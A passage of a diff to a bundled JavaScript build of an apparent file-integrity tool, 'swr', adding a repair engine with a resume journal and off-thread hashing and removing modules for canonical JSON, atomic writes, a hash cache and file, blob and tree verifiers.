+    return external_node_path_default().join(stateDir, 'journal', `${key}.jsonl`);
+}
+function resumeState(stateDir, workspace, digest) {
+    const none = { interrupted: false, repaired: new Set() };
+    let lines;
+    try {
+        lines = external_node_fs_default().readFileSync(journalPath(stateDir, workspace), 'utf8').split('\n').filter(Boolean);
+    }
+    catch {
+        return none;
+    }
+    const repaired = new Set();
+    try {
+        const head = JSON.parse(lines[0] ?? '');
+        if (head.v !== 1 || head.digest !== digest || head.workspace !== external_node_path_default().resolve(workspace))
+            return none;
+        for (const line of lines.slice(1)) {
+            const e = JSON.parse(line);
+            if (e.id === '*' && e.outcome === 'finished')
+                return none;
+            if (e.outcome === 'repaired')
+                repaired.add(e.id);
+        }
+    }
+    catch {
+        // A torn last line from a killed run: keep what was read before it.
+    }
+    return { interrupted: true, repaired };
+}
+function openJournal(stateDir, workspace, digest, now, resume) {
+    ensurePrivateDir(stateDir, 'journal');
+    const file = journalPath(stateDir, workspace);
+    if (!resume || !resumeState(stateDir, workspace, digest).interrupted) {
+        const head = {
+            v: 1,
+            digest,
+            workspace: external_node_path_default().resolve(workspace),
+            started: now.toISOString()
+        };
+        writeFileAtomic(file, JSON.stringify(head) + '\n', { mode: 0o600 });
+    }
+    const append = (e) => appendRecord(file, JSON.stringify(e) + '\n');
+    return {
+        file,
+        append,
+        close: () => append({ id: '*', outcome: 'finished', at: new Date().toISOString() })
+    };
+}
+
+;// CONCATENATED MODULE: ./src/core/engine/repair.ts
+/**
+ * restore and doctor as one engine call, shared by the CLI and the Action:
+ *
+ *   check -> plan -> gate -> run the plan (journal, quarantine) -> re-verify -> report
+ *
+ * Both re-check the whole selection uncached at the end (restore also re-verifies each step as it
+ * runs), so damage a recipe did to another entry is seen and named. The
+ * caller hears each phase through hooks (to print, group logs, or stay silent) and gets a report
+ * that says what happened and which exit code that means.
+ */
+
+
+
+
+
+
+
+
+
+
+async function repairManifest(m, opts) {
+    const hooks = opts.hooks ?? {};
+    const verify = (cache, known) => verifySelection(m, {
+        only: opts.only,
+        known,
+        cache,
+        stateDir: opts.stateDir,
+        version: opts.version,
+        jobs: opts.jobs,
+        nativeWalk: opts.nativeWalk
+    });
+    const reportFor = (c) => reportOf(m, c, { version: opts.version, command: opts.mode });
+    const first = await verify(opts.cache !== false);
+    const before = reportFor(first);
+    const plan = planRepair(m.body.entries, first.findings);
+    hooks.onCheck?.(before, plan);
+    const finish = (outcome, steps, final, gate, harmed = []) => {
+        const repair = {
+            mode: opts.mode,
+            dry_run: opts.dryRun === true,
+            before: {
+                summary: before.summary,
+                signature: before.diagnosis.signature,
+                cause: before.diagnosis.cause
+            },
+            plan: plan.waves,
+            ...(gate
+                ? { gate: { allowed: gate.allowed, reason: gate.reason, warnings: gate.warnings } }
+                : {}),
+            steps,
+            ...(harmed.length > 0 ? { collateral: harmed } : {}),
+            write_back: writeBack(m, steps),
+            outcome,
+            exit_code: repairOutcome(outcome).exitCode
+        };
+        return { ...final, repair };
+    };
+    if (before.verdict === 'healthy')
+        return finish('healthy', [], before);
+    if (opts.dryRun)
+        return finish('damaged', [], before);
+    const gate = await decide(gateInput(m), opts.policy);
+    hooks.onGate?.(gate);
+    if (!gate.allowed)
+        return finish('refused', [], before, gate);
+    if (opts.rememberAccepted)
+        remember(opts.stateDir, m.file, { version: m.body.version, digest: m.digest }, m.body.scope);
+    const resumed = opts.resume ? resumeState(opts.stateDir, m.workspace, m.digest) : undefined;
+    const already = resumed?.repaired ?? new Set();
+    if (resumed)
+        hooks.onResume?.(already.size, resumed.interrupted);
+    const journal = openJournal(opts.stateDir, m.workspace, m.digest, new Date(), opts.resume === true);
+    const reverify = { stateDir: opts.stateDir, jobs: opts.jobs, nativeWalk: opts.nativeWalk };
+    const steps = await runPlan({
+        manifest: m,
+        plan,
+        gate,
+        callerEnv: opts.callerEnv,
+        reverify: reverifier(m, reverify),
+        reverifyAt: scratchVerifier(m, reverify),
+        jobs: opts.jobs ?? 1,
+        timeoutS: opts.timeoutS,
+        quarantine: opts.quarantine ? { stateDir: opts.stateDir, ...opts.quarantineLimits } : undefined,
+        alreadyRepaired: already,
+        journal,
+        abort: opts.abort,
+        cache: opts.cacheClient,
+        onLine: hooks.onLine,
+        onStep: hooks.onStep
+    });
+    const interrupted = steps.some(s => s.outcome === 'interrupted') || opts.abort?.aborted === true;
+    if (!interrupted)
+        journal.close();
+    // Entries a cache archive healed were proven byte by byte as they were extracted, moments ago:
+    // the final uncached check takes those findings instead of reading them a second time.
+    const proven = new Map(steps.flatMap(s => s.outcome === 'repaired' && s.source === 'cache' && isProven(s.after)
+        ? [[s.id, s.after]]
+        : []));
+    // The verdict comes from an uncached check of the whole selection, restore included: a recipe
+    // may damage an entry it was not asked to touch, and only a full re-check sees that.
+    const final = reportFor(interrupted
+        ? finalFindings(first, steps, true)
+        : finalFindings(await verify(false, proven), steps, false));
+    const harmed = collateral(first.findings, final.results, steps);
+    hooks.onFinal?.(final);
+    return finish(verdict(final, steps, interrupted, harmed), steps, final, gate, harmed);
+}
+/**
+ * Entries that verified before the repair and do not after it: damage a recipe did on the side.
+ * Each is named with the steps that ran before the re-check found it (the likely culprits).
+ */
+function collateral(before, final, steps) {
+    const wasOk = new Set(before.filter(f => f.status === 'OK').map(f => f.id));
+    const ran = steps.filter(s => s.outcome !== 'skipped' && s.source === 'recipe').map(s => s.id);
+    return final
+        .filter(f => wasOk.has(f.id) && f.status !== 'OK' && f.status !== 'SKIPPED')
+        .map(f => ({ id: f.id, status: f.status, detail: f.detail, after: ran }));
+}
+/**
+ * Entries a recipe healed and re-verified: their state is worth saving to the cache under the
+ * key of their signed expectations, so the next run restores it without running code.
+ */
+function writeBack(m, steps) {
+    const entries = new Map(m.body.entries.map(e => [e.id, e]));
+    return steps.flatMap(s => {
+        const e = entries.get(s.id);
+        return s.outcome === 'repaired' && s.source === 'recipe' && e
+            ? [{ id: s.id, key: stateKey(e) }]
+            : [];
+    });
+}
+/**
+ * The findings of the final state, from `base` (the final check, or the first check when an
+ * interruption left no time for one): entries whose step was skipped because a dependency failed
+ * are SKIPPED rather than their damage; with `stepFindings`, each step's own re-verification
+ * stands for its entry.
+ */
+function finalFindings(base, steps, stepFindings) {
+    const after = new Map(stepFindings ? steps.flatMap(s => (s.after ? [[s.id, s.after]] : [])) : []);
+    const skipped = new Map(steps.filter(s => s.outcome === 'skipped').map(s => [s.id, s.detail]));
+    const findings = base.findings.map(f => {
+        const a = after.get(f.id);
+        if (a)
+            return a;
+        const why = skipped.get(f.id);
+        return why && f.status !== 'OK'
+            ? { ...f, status: 'SKIPPED', reason: 'dependency', detail: why }
+            : f;
+    });
+    return { ...base, findings, ms: Date.now() - base.started.getTime() };
+}
+function verdict(final, steps, interrupted, harmed) {
+    if (interrupted)
+        return 'interrupted';
+    if (final.verdict === 'healthy')
+        return 'repaired';
+    if (harmed.length > 0 || steps.some(s => s.outcome === 'still-damaged'))
+        return 'still-damaged';
+    return 'unrepairable';
+}
+
+;// CONCATENATED MODULE: ./src/core/hash-off-thread.ts
+/**
+ * Hashing one large file on a worker thread, with the verifiers' own kernel, so the main thread's
+ * event loop stays live meanwhile: a lock holder refreshes its lock, signals are handled. A small
+ * file is hashed inline (a worker costs 30-50 ms to start).
+ */
+
+
+
+const hash_off_thread_INLINE_BYTES = 16 * 1024 * 1024;
+function hashOffThread(abs, how, size) {
+    if (size < hash_off_thread_INLINE_BYTES)
+        return Promise.resolve(runJob(abs, how));
+    return new Promise((resolve, reject) => {
+        const counter = new SharedArrayBuffer(4);
+        const w = new external_node_worker_threads_.Worker(kernelUrl(), {
+            workerData: { swrHashWorker: true, paths: [abs], hows: [how], counter }
+        });
+        let result;
+        w.on('message', (m) => {
+            if (m === 'done')
+                void w.terminate();
+            else
+                for (const [, r] of m)
+                    result = r;
+        });
+        w.on('error', reject);
+        w.on('exit', () => result ? resolve(result) : reject(new Error('hash worker ended without a result')));
+    });
 }
 
 ;// CONCATENATED MODULE: ./src/core/capture.ts
@@ -16212,1086 +20419,6 @@ function pickSentinels(files) {
     if (deepest && !picked.includes(deepest))
         picked.push(deepest);
     return picked;
-}
-
-;// CONCATENATED MODULE: ./node_modules/canonicalize/lib/canonicalize.js
-function hasLoneSurrogate (value) {
-  for (let i = 0; i < value.length; i++) {
-    const code = value.charCodeAt(i);
-
-    if (code >= 0xD800 && code <= 0xDBFF) {
-      if (i === value.length - 1) {
-        return true;
-      }
-      const next = value.charCodeAt(i + 1);
-      if (!(next >= 0xDC00 && next <= 0xDFFF)) {
-        return true;
-      }
-      i++;
-    } else if (code >= 0xDC00 && code <= 0xDFFF) {
-      return true;
-    }
-  }
-
-  return false;
-}
-
-function canonicalize (object, seen = new Set()) {
-  if (typeof object === 'number' && isNaN(object)) {
-    throw new Error('NaN is not allowed');
-  }
-
-  if (typeof object === 'number' && !isFinite(object)) {
-    throw new Error('Infinity is not allowed');
-  }
-
-  if (typeof object === 'string' && hasLoneSurrogate(object)) {
-    throw new Error('Lone surrogate is not allowed');
-  }
-
-  if (object === null || typeof object !== 'object') {
-    return JSON.stringify(object);
-  }
-
-  if (typeof object.toJSON === 'function') {
-    if (seen.has(object)) {
-      throw new Error('Circular reference detected');
-    }
-    seen.add(object);
-    const result = canonicalize(object.toJSON(), seen);
-    seen.delete(object);
-    return result;
-  }
-
-  if (seen.has(object)) {
-    throw new Error('Circular reference detected');
-  }
-  seen.add(object);
-
-  let result;
-  if (Array.isArray(object)) {
-    const values = object.map((cv) => {
-      const value = cv === undefined || typeof cv === 'symbol' ? null : cv;
-      return canonicalize(value, seen);
-    });
-    result = `[${values.join(',')}]`;
-  } else {
-    const parts = [];
-    for (const key of Object.keys(object).sort()) {
-      if (object[key] === undefined || typeof object[key] === 'symbol') {
-        continue;
-      }
-      parts.push(`${canonicalize(key)}:${canonicalize(object[key], seen)}`);
-    }
-    result = `{${parts.join(',')}}`;
-  }
-
-  seen.delete(object);
-  return result;
-}
-
-;// CONCATENATED MODULE: ./src/core/manifest/canonical.ts
-/**
- * The one canonical form of a manifest body (RFC 8785, JCS) and the digest derived from it. Only
- * values from the strict parser reach here, so the text a reviewer read is the text that is hashed.
- */
-
-
-
-/** RFC 8785 bytes of `value`. */
-function canonicalBytes(value) {
-    const text = canonicalize(value);
-    if (text === undefined)
-        throw new InternalError('value has no canonical JSON form');
-    return Buffer.from(text, 'utf8');
-}
-/** sha256 (hex) of the canonical body: the manifest digest shown to people and used as cache key. */
-function manifestDigest(body) {
-    return (0,external_node_crypto_.createHash)('sha256').update(canonicalBytes(body)).digest('hex');
-}
-
-;// CONCATENATED MODULE: ./src/core/report/report.ts
-/**
- * The check report: one versioned object that the JSON output prints as is, and that the text,
- * Markdown and SARIF renderers read. Its schema is published in schema/report-v1.schema.json.
- */
-
-
-const REPORT_SCHEMA = 'swr.report/1';
-function buildReport(input) {
-    const byStatus = Object.fromEntries(STATUSES.map(s => [s, 0]));
-    for (const f of input.findings)
-        byStatus[f.status]++;
-    const damaged = input.findings.filter(isDamaged).length;
-    const m = input.manifest;
-    return {
-        schema: REPORT_SCHEMA,
-        command: input.command,
-        tool: { name: 'swr', version: input.version },
-        manifest: {
-            path: m.file,
-            format: m.format,
-            digest: m.digest,
-            version: m.body.version,
-            workspace: m.workspace
-        },
-        verdict: damaged === 0 ? 'healthy' : 'damaged',
-        summary: {
-            entries: input.findings.length,
-            ok: input.findings.length - damaged,
-            damaged,
-            by_status: byStatus
-        },
-        diagnosis: diagnose(input.findings, input.fixCommand, input.manifest.body.entries),
-        results: input.findings,
-        options: input.options,
-        timing: { started: input.started.toISOString(), ms: Math.round(input.ms) },
-        notes: m.notes
-    };
-}
-
-;// CONCATENATED MODULE: ./src/core/state/atomic.ts
-/**
- * Writes that never leave a half-written file and never clobber what they did not mean to: data
- * goes to a new file with a random name, created exclusively beside the target, written to the last
- * byte, fsynced, its size checked, then renamed over the target. A full disk (or a quota, or an I/O
- * error) removes the new file, leaves the target as it was, and becomes one line with
- * EXIT.WRITE_FAILED.
- */
-
-
-
-
-/**
- * Write every byte of `buf` at the descriptor's position: `write(2)` may write fewer bytes than
- * asked (a nearly full disk, a signal), and the rest must follow, or the error must surface.
- */
-function writeAll(fd, buf) {
-    let off = 0;
-    while (off < buf.length) {
-        const n = external_node_fs_default().writeSync(fd, buf, off, buf.length - off);
-        // write(2) returning 0 for a non-empty buffer is a full device that did not say ENOSPC.
-        if (n <= 0)
-            throw Object.assign(new Error('short write'), { code: 'ENOSPC' });
-        off += n;
-    }
-}
-/** `err` as a one-line SwrError when the disk caused it; anything else unchanged. */
-function asWriteError(err, what) {
-    return diskError(err, what) ?? err;
-}
-/** Write `data` to `file` atomically; the directory must exist. */
-function writeFileAtomic(file, data, opts = {}) {
-    const bytes = typeof data === 'string' ? Buffer.from(data, 'utf8') : data;
-    const dir = external_node_path_default().dirname(file);
-    const tmp = external_node_path_default().join(dir, `.${external_node_path_default().basename(file)}.${(0,external_node_crypto_.randomBytes)(8).toString('hex')}.tmp`);
-    const flags = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
-    let fd;
-    try {
-        fd = external_node_fs_default().openSync(tmp, flags, opts.mode ?? 0o644);
-    }
-    catch (err) {
-        throw asWriteError(err, file);
-    }
-    try {
-        try {
-            writeAll(fd, bytes);
-            if (opts.mode !== undefined)
-                external_node_fs_default().fchmodSync(fd, opts.mode);
-            external_node_fs_default().fsyncSync(fd);
-            // The length on disk, not the count we believe we wrote, decides whether it replaces the target.
-            const size = external_node_fs_default().fstatSync(fd).size;
-            if (size !== bytes.length)
-                throw new SwrError(`cannot write ${file}: ${size} of ${bytes.length} bytes reached the disk; the original is unchanged`, EXIT.WRITE_FAILED);
-        }
-        finally {
-            external_node_fs_default().closeSync(fd);
-        }
-        if (opts.exclusive) {
-            // link() fails when the target exists, so a concurrent creator is never overwritten.
-            external_node_fs_default().linkSync(tmp, file);
-            external_node_fs_default().unlinkSync(tmp);
-        }
-        else {
-            external_node_fs_default().renameSync(tmp, file);
-        }
-    }
-    catch (err) {
-        external_node_fs_default().rmSync(tmp, { force: true });
-        throw asWriteError(err, file);
-    }
-}
-/**
- * Append one record with a single descriptor: every byte or a one-line error. A record torn by a
- * full disk is cut back off, so the file keeps only whole lines.
- */
-function appendRecord(file, data, opts = {}) {
-    const flags = (external_node_fs_default()).constants.O_WRONLY |
-        (external_node_fs_default()).constants.O_APPEND |
-        (external_node_fs_default()).constants.O_NOFOLLOW |
-        (opts.create ? (external_node_fs_default()).constants.O_CREAT : 0);
-    let fd;
-    try {
-        fd = external_node_fs_default().openSync(file, flags, opts.mode ?? 0o600);
-    }
-    catch (err) {
-        throw asWriteError(err, file);
-    }
-    let before = 0;
-    try {
-        before = external_node_fs_default().fstatSync(fd).size;
-        writeAll(fd, Buffer.from(data, 'utf8'));
-        external_node_fs_default().fsyncSync(fd);
-    }
-    catch (err) {
-        try {
-            external_node_fs_default().ftruncateSync(fd, before);
-        }
-        catch {
-            // The reader skips a torn last line anyway.
-        }
-        throw asWriteError(err, file);
-    }
-    finally {
-        external_node_fs_default().closeSync(fd);
-    }
-}
-
-;// CONCATENATED MODULE: ./src/core/state/state-dir.ts
-/**
- * The private state directory (incremental cache, keys, journals): 0700, outside the workspace by
- * default. `SWR_STATE_DIR`, else `$XDG_STATE_HOME/swr`, else `~/.local/state/swr`. The shells
- * resolve it from the environment and pass it in; the engine never reads the environment.
- */
-
-
-function defaultStateDir(env, home) {
-    if (env.SWR_STATE_DIR)
-        return external_node_path_default().resolve(env.SWR_STATE_DIR);
-    if (env.XDG_STATE_HOME)
-        return external_node_path_default().join(external_node_path_default().resolve(env.XDG_STATE_HOME), 'swr');
-    return external_node_path_default().join(home, '.local', 'state', 'swr');
-}
-/** Create `dir` (and `sub`) with private modes, tightening a directory that is too open. */
-function ensurePrivateDir(dir, ...sub) {
-    let current = dir;
-    external_node_fs_default().mkdirSync(current, { recursive: true, mode: 0o700 });
-    tighten(current);
-    for (const s of sub) {
-        current = external_node_path_default().join(current, s);
-        external_node_fs_default().mkdirSync(current, { recursive: true, mode: 0o700 });
-        tighten(current);
-    }
-    return current;
-}
-function tighten(dir) {
-    const st = external_node_fs_default().lstatSync(dir);
-    if (!st.isDirectory())
-        throw new Error(`${dir} is not a directory`);
-    if ((st.mode & 0o077) !== 0)
-        external_node_fs_default().chmodSync(dir, 0o700);
-}
-
-;// CONCATENATED MODULE: ./src/core/state/cache.ts
-/**
- * The incremental hash cache: lets an unchanged workspace re-check without re-hashing. A cached
- * hash is used only when the file's dev, inode, size, mtime_ns and ctime_ns are all unchanged
- * (ctime cannot be set from user space, so an edit that restores mtime is still noticed), and only
- * for the same manifest file, entry id and entry content (the canonical digest of the entry, so
- * editing one entry does not throw away the hashes of the others). It stores what was observed on
- * disk, never a verdict: the expectations are compared afresh on every check.
- *
- * Files are private (0600 in a 0700 directory) and written atomically; a corrupt or foreign cache
- * file is ignored, never fatal.
- */
-
-
-
-
-
-/** A cache that remembers nothing (`--no-cache` reads nothing; its results are still saved). */
-function openCache(opts) {
-    const key = (0,external_node_crypto_.createHash)('sha256')
-        .update(external_node_path_default().resolve(opts.manifestFile))
-        .digest('hex')
-        .slice(0, 32);
-    const dir = external_node_path_default().join(opts.stateDir, 'cache', key);
-    const mainFile = external_node_path_default().join(dir, 'entries.json');
-    // Maps, not objects: an entry id such as "__proto__" is valid and must stay plain data.
-    const raw = opts.read ? readJson(mainFile, isStored) : undefined;
-    const files = new Map(Object.entries(raw?.files ?? {}));
-    const trees = new Map(Object.entries(raw?.trees ?? {}));
-    const treeMaps = new Map();
-    const treeJson = new Map();
-    const dirtyMaps = new Set();
-    let dirty = false;
-    const digestOf = (id) => opts.entryDigests.get(id) ?? '';
-    // Ids are [A-Za-z0-9._-]; a prefix keeps "." and ".." from naming directories.
-    const treeFile = (id) => external_node_path_default().join(dir, `tree-${id}.json`);
-    return {
-        file(id, k) {
-            const rec = files.get(id);
-            return rec && rec.entry === digestOf(id) && rec.key === k ? rec.sha256 : undefined;
-        },
-        setFile(id, k, sha256) {
-            files.set(id, { entry: digestOf(id), key: k, sha256 });
-            dirty = true;
-        },
-        tree(id) {
-            const rec = trees.get(id);
-            return rec && rec.entry === digestOf(id) ? rec : undefined;
-        },
-        setTree(id, rec) {
-            trees.set(id, { ...rec, entry: digestOf(id) });
-            dirty = true;
-        },
-        treeFiles(id) {
-            let map = treeMaps.get(id);
-            const json = treeJson.get(id);
-            if (!map && json !== undefined) {
-                const files = JSON.parse(Buffer.concat(json).toString('utf8'));
-                map = new Map(Object.entries(files));
-                treeMaps.set(id, map);
-            }
-            if (!map) {
-                const raw = opts.read ? readJson(treeFile(id), isTreeFiles) : undefined;
-                map = raw && raw.entry === digestOf(id) ? new Map(Object.entries(raw.files)) : new Map();
-                treeMaps.set(id, map);
-            }
-            return map;
-        },
-        setTreeFiles(id, files) {
-            treeMaps.set(id, files);
-            treeJson.delete(id);
-            dirtyMaps.add(id);
-        },
-        setTreeFilesJson(id, json) {
-            treeMaps.delete(id);
-            treeJson.set(id, json);
-            dirtyMaps.add(id);
-        },
-        flush() {
-            if (!dirty && dirtyMaps.size === 0)
-                return;
-            try {
-                ensurePrivateDir(opts.stateDir, 'cache', key);
-                for (const id of dirtyMaps) {
-                    const json = treeJson.get(id);
-                    const head = `{"v":1,"entry":${JSON.stringify(digestOf(id))},"files":`;
-                    const body = json !== undefined
-                        ? Buffer.concat([Buffer.from(head), ...json, Buffer.from('}')])
-                        : `${head}${JSON.stringify(Object.fromEntries(treeMaps.get(id) ?? []))}}`;
-                    writeFileAtomic(treeFile(id), body, { mode: 0o600 });
-                }
-                if (dirty) {
-                    const body = { v: 1, files: Object.fromEntries(files), trees: Object.fromEntries(trees) };
-                    writeFileAtomic(mainFile, JSON.stringify(body), { mode: 0o600 });
-                }
-            }
-            catch {
-                // A read-only or full state directory must not fail a check.
-            }
-            dirty = false;
-            dirtyMaps.clear();
-        }
-    };
-}
-function readJson(file, guard) {
-    try {
-        const v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
-        return guard(v) ? v : undefined;
-    }
-    catch {
-        return undefined;
-    }
-}
-function isStored(v) {
-    const s = v;
-    return (typeof s === 'object' &&
-        s !== null &&
-        s.v === 1 &&
-        typeof s.files === 'object' &&
-        s.files !== null &&
-        typeof s.trees === 'object' &&
-        s.trees !== null);
-}
-function isTreeFiles(v) {
-    const s = v;
-    return (typeof s === 'object' &&
-        s !== null &&
-        s.v === 1 &&
-        typeof s.entry === 'string' &&
-        typeof s.files === 'object' &&
-        s.files !== null &&
-        !Array.isArray(s.files) &&
-        Object.values(s.files).every(x => typeof x === 'string'));
-}
-
-;// CONCATENATED MODULE: ./src/core/verify/blob.ts
-/**
- * `blob` entries: large files (models, archives) checked by exact byte count, a head/tail digest
- * that reads 2 MiB whatever the size, and the full sha256 recorded at `add`. The full hash is read
- * whenever the file's stat stamp (dev, inode, size, mtime, ctime) is not the one a previous check
- * cached with a matching hash, so a same-size flip in the middle of a model is caught by default,
- * and an unchanged 2 GB model still costs 2 MiB (`--deep` and `--no-cache` read every blob in
- * full). The mode is compared like a file's.
- */
-
-
-
-
-function verifyBlob(e, ctx) {
-    const want = e.expect;
-    const recorded = {
-        type: 'file',
-        size: want.size,
-        headtail: verifier_short(want.headtail),
-        ...(want.mode ? { mode: want.mode } : {})
-    };
-    const loc = locateAs(e, ctx, recorded, 'blob', st => st.isFile(), 'a regular file');
-    if (isFinding(loc))
-        return loc;
-    const st = loc.st;
-    const size = Number(st.size);
-    const mode = Number(st.mode & 4095n);
-    const found = { type: 'file', size, mode: octal(mode) };
-    if (size !== want.size) {
-        const how = size < want.size ? 'truncated' : 'grown';
-        const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)}): ${how}`;
-        return finding(e, 'CORRUPT', 'size', detail, recorded, found);
-    }
-    const key = identity(st);
-    // A stamp the cache knows is a file whose bytes were hashed in full since it last changed.
-    const fullCached = want.sha256 ? ctx.cache.file(e.id, key) : undefined;
-    const jobs = [{ abs: loc.abs, how: 'headtail', cost: Math.min(size, 2 * MIB) }];
-    // --meta reads no content beyond the head/tail (what it always read for blobs).
-    const wantFull = want.sha256 !== undefined && !ctx.metaOnly && (ctx.deep || fullCached === undefined);
-    if (wantFull)
-        jobs.push({ abs: loc.abs, how: 'full', cost: size });
-    return {
-        jobs,
-        judge: ([ht, full]) => {
-            if (!ht || 'error' in ht) {
-                return finding(e, 'CORRUPT', 'unreadable', `cannot be read (${ht && 'error' in ht ? ht.error : 'EIO'})`, recorded, found);
-            }
-            if (ht.sha256 !== want.headtail) {
-                const detail = `head/tail digest ${verifier_short(ht.sha256)} (want ${verifier_short(want.headtail)}): different bytes at the same size`;
-                return finding(e, 'CORRUPT', 'headtail', detail, recorded, {
-                    ...found,
-                    headtail: verifier_short(ht.sha256)
-                });
-            }
-            let sha = wantFull ? undefined : fullCached;
-            if (wantFull && full && !('error' in full)) {
-                sha = full.sha256;
-                if (full.size === size)
-                    ctx.cache.setFile(e.id, key, sha);
-            }
-            if (want.sha256 && sha !== undefined && sha !== want.sha256) {
-                const detail = `sha256 ${verifier_short(sha)} (want ${verifier_short(want.sha256)}): bytes differ between head and tail`;
-                return finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, sha256: verifier_short(sha) }, fullCached !== undefined);
-            }
-            const cached = !wantFull && fullCached !== undefined;
-            return judgeBlobMode(e, mode, recorded, found, sha !== undefined, cached);
-        }
-    };
-}
-function judgeBlobMode(e, mode, recorded, found, deep, cached) {
-    if (e.expect.mode && lostExec(parseMode(e.expect.mode), mode)) {
-        return finding(e, 'STRIPPED', 'exec', `mode ${octal(mode)}, exec bit lost (want ${e.expect.mode})`, recorded, found, cached);
-    }
-    if (e.expect.mode && mode !== parseMode(e.expect.mode)) {
-        const detail = `mode ${octal(mode)} (want ${e.expect.mode})`;
-        return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
-    }
-    const how = deep ? 'size, head/tail and full sha256 match' : 'size and head/tail match';
-    return finding(e, 'OK', 'ok', `${num(e.expect.size)} bytes, ${how}`, recorded, found, cached);
-}
-
-;// CONCATENATED MODULE: ./src/core/verify/file.ts
-/**
- * `file` entries: a regular file with an exact size, sha256 and permission mode. Size is compared
- * before hashing (a different size says all a digest would), and the content outranks the mode:
- * a truncated script that also lost its exec bit is CORRUPT, not STRIPPED.
- */
-
-
-
-function verifyFile(e, ctx) {
-    const want = e.expect;
-    const recorded = { type: 'file', size: want.size, mode: want.mode, sha256: verifier_short(want.sha256) };
-    const loc = locateAs(e, ctx, recorded, 'file', st => st.isFile(), 'a regular file');
-    if (isFinding(loc))
-        return loc;
-    const st = loc.st;
-    const size = Number(st.size);
-    const mode = Number(st.mode & 4095n);
-    const found = { type: 'file', size, mode: octal(mode) };
-    if (size !== want.size) {
-        const detail = `${num(size)} bytes (want ${num(want.size)}, ${delta(size, want.size)})`;
-        return finding(e, 'CORRUPT', 'size', detail, recorded, found);
-    }
-    const judgeContent = (sha256, cached) => {
-        if (sha256 !== undefined && sha256 !== want.sha256) {
-            const detail = `content changed at the same size (sha256 ${verifier_short(sha256)}, want ${verifier_short(want.sha256)})`;
-            return finding(e, 'CORRUPT', 'content', detail, recorded, { ...found, sha256: verifier_short(sha256) }, cached);
-        }
-        return judgeMode(e, mode, { ...found, ...(sha256 ? { sha256: verifier_short(sha256) } : {}) }, cached);
-    };
-    if (ctx.metaOnly)
-        return judgeContent(undefined, false);
-    const key = identity(st);
-    const cached = ctx.cache.file(e.id, key);
-    if (cached !== undefined)
-        return judgeContent(cached, true);
-    return {
-        jobs: [{ abs: loc.abs, how: 'full', cost: size }],
-        judge: ([r]) => {
-            if (!r || 'error' in r) {
-                const code = r && 'error' in r ? r.error : 'EIO';
-                return finding(e, 'CORRUPT', 'unreadable', `cannot be read (${code})`, recorded, found);
-            }
-            if (r.size === size)
-                ctx.cache.setFile(e.id, key, r.sha256);
-            return judgeContent(r.sha256, false);
-        }
-    };
-}
-function judgeMode(e, mode, found, cached) {
-    const wanted = parseMode(e.expect.mode);
-    const recorded = {
-        type: 'file',
-        size: e.expect.size,
-        mode: e.expect.mode,
-        sha256: verifier_short(e.expect.sha256)
-    };
-    if (lostExec(wanted, mode)) {
-        const detail = `mode ${octal(mode)}, exec bit lost (want ${e.expect.mode})`;
-        return finding(e, 'STRIPPED', 'exec', detail, recorded, found, cached);
-    }
-    if (mode !== wanted) {
-        const detail = `mode ${octal(mode)} (want ${e.expect.mode})`;
-        return finding(e, 'CORRUPT', 'mode', detail, recorded, found, cached);
-    }
-    return finding(e, 'OK', 'ok', `${num(e.expect.size)} bytes, mode ${e.expect.mode}`, recorded, found, cached);
-}
-
-;// CONCATENATED MODULE: ./src/core/verify/tree.ts
-/**
- * `tree` entries: a directory judged by its sentinels, file-count bounds, a metadata digest and a
- * content digest over every entry. Directories survive while being emptied, so presence says
- * nothing; a sentinel catches a gutted tree, the digests catch one changed byte among thousands,
- * and the index names what changed. Warm checks re-hash only files whose identity changed.
- */
-
-
-
-
-
-
-
-async function verifyTree(e, ctx) {
-    const want = e.expect;
-    const recorded = {
-        type: 'directory',
-        ...(want.files !== undefined ? { files: want.files } : {}),
-        min_files: want.min_files,
-        ...(want.max_files !== undefined ? { max_files: want.max_files } : {}),
-        ...(want.meta_digest ? { meta: verifier_short(want.meta_digest) } : {})
-    };
-    const loc = locateAs(e, ctx, recorded, 'directory', st => st.isDirectory(), 'a directory');
-    if (isFinding(loc))
-        return loc;
-    const root = external_node_fs_default().realpathSync(loc.abs);
-    // A warm check computes only the stamp: when it equals the cached one, nothing changed since the
-    // cached digests were computed, so the metadata digest is taken from the cache too.
-    const cachedTree = ctx.metaOnly || !want.content_digest ? undefined : ctx.cache.tree(e.id);
-    const fast = await judgeFromDigest(e, ctx, root, cachedTree, recorded);
-    if (fast)
-        return fast;
-    // A cold content check hashes while it walks, on every core; other checks only walk.
-    const hash = !ctx.metaOnly && want.content_digest !== undefined && !cachedTree;
-    const walked = await walkTreeParallel(root, e.ignore, ctx.exclude, { jobs: ctx.jobs, hash });
-    const walk = lazyDigests(walked, () => cachedTree && walk.stamp === cachedTree.stamp ? cachedTree.metaDigest : undefined);
-    const found = { type: 'directory', files: walk.files, meta: verifier_short(walk.metaDigest) };
-    const early = judgeStructure(e, ctx, root, walk, recorded, found);
-    if (ctx.metaOnly || !want.content_digest) {
-        return early ?? finding(e, 'OK', 'ok', okDetail(e, walk, false), recorded, found);
-    }
-    if (!early && cachedTree && cachedTree.stamp === walk.stamp) {
-        return judgeContent(e, ctx, root, walk, cachedTree.contentDigest, undefined, recorded, found, true);
-    }
-    // Even when the structure already failed, hash the files: the report should name every file
-    // whose bytes changed, not only the ones that vanished.
-    return planContentHash(e, ctx, root, walk, recorded, found, early);
-}
-/**
- * The fast path for large trees: workers digest the tree without building records (the metadata
- * digest for --meta checks, the identity stamp for warm checks). When that shows the structure is
- * as recorded (and, warm, that nothing changed since the cached content digest), the entry is
- * judged from counts, sentinels and digests alone. Otherwise the caller walks the tree fully.
- */
-async function judgeFromDigest(e, ctx, root, cachedTree, recorded) {
-    const want = e.expect;
-    const kind = ctx.metaOnly || !want.content_digest ? 'meta' : cachedTree ? 'stamp' : undefined;
-    if (!kind)
-        return undefined;
-    const known = kind === 'stamp' && cachedTree?.rawStamp
-        ? { raw: cachedTree.rawStamp, digest: cachedTree.stamp, files: cachedTree.files }
-        : undefined;
-    const r = await digestTreeParallel(root, e.ignore, ctx.exclude, {
-        jobs: ctx.jobs,
-        kind,
